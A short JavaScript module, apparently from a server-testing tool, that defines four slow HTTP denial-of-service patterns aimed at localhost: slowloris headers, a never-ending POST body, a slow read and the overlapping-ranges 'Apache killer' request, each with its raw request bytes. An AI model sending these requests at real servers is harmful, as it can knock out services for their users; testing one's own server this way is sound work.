/** Bytes of a field or body that are sent now and then, so that a connection never falls silent. */
const DRIP = 'X-Drip: 1\r\n'
const RANGES = Array.from({ length: 1000 }, (_, index) => `${index}-`).join()

/**
 * The four attacks that the tool slowhttptest is known for. `opening` is sent at once, `drip` with each interval until the server ends the connection; `reads` is `nothing`
 * where the client takes only a sip of the answer per interval.
 */
export const ATTACKS = [
  {
    name: 'slow-headers',
    title: 'fields that never end (slowloris)',
    opening: 'GET /small.html HTTP/1.1\r\nHost: localhost\r\n',
    drip: DRIP,
    reads: 'all',
  },
  {
    name: 'slow-body',
    title: 'a body that never ends (R-U-Dead-Yet)',
    opening: 'POST /small.html HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n',
    drip: 'x=1&',
    reads: 'all',
  },
  {
    name: 'slow-read',
    title: 'ten MiB that nobody reads',
    opening: 'GET /10m.bin HTTP/1.1\r\nHost: localhost\r\n\r\n',
    drip: '',
    reads: 'nothing',
  },
  {
    name: 'ranges',
    title: 'a thousand overlapping ranges of a file, and nobody reads them (Apache killer)',
    opening: `GET /10m.bin HTTP/1.1\r\nHost: localhost\r\nRange: bytes=${RANGES}\r\n\r\n`,
    drip: '',
    reads: 'nothing',
  },
]
